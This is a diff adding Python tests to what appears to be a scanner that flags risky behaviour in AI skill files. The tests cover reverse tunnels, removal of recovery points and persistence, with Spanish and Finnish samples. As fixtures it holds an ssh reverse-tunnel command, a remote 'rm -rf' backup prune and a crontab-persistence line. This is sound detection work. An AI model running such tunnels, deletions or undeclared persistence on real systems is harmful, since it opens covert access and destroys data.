@@ -270,3 +270,20 @@ def test_xargs_r_in_a_remote_command_is_no_reverse_tunnel() -> None:
     prune = '```bash\nssh "$HOST" "ls -1d /bk/20* | head -n -7 | xargs -r rm -rf --"\n```\n'
     assert "NET002" not in rules(prune)
     assert "NET002" in rules("```bash\nssh -N -R 9000:localhost:22 me@relay.example.net\n```\n")
+
+
+def test_recovery_points_named_as_left_alone_are_not_removed() -> None:
+    honest = (
+        "Todo lo que borra esta habilidad se regenera en la siguiente compilación. No toca "
+        "documentos, copias de seguridad, puntos de restauración ni la papelera.\n"
+    )
+    assert "BEH040" not in rules(honest)
+
+
+def test_a_finnish_skill_that_says_it_schedules_its_backup() -> None:
+    skill = (
+        "---\nname: valokuvat\ndescription: Valokuvien ajastettu varmuuskopio omalle NAS-levylle."
+        '\n---\n\n```bash\n( crontab -l; echo "30 2 * * * $HOME/bk.sh" ) | crontab -\n```\n'
+    )
+    assert "PER001" not in rules(skill)
+    assert "PER001" in rules(skill.replace("ajastettu varmuuskopio", "kuvien järjestäjä"))
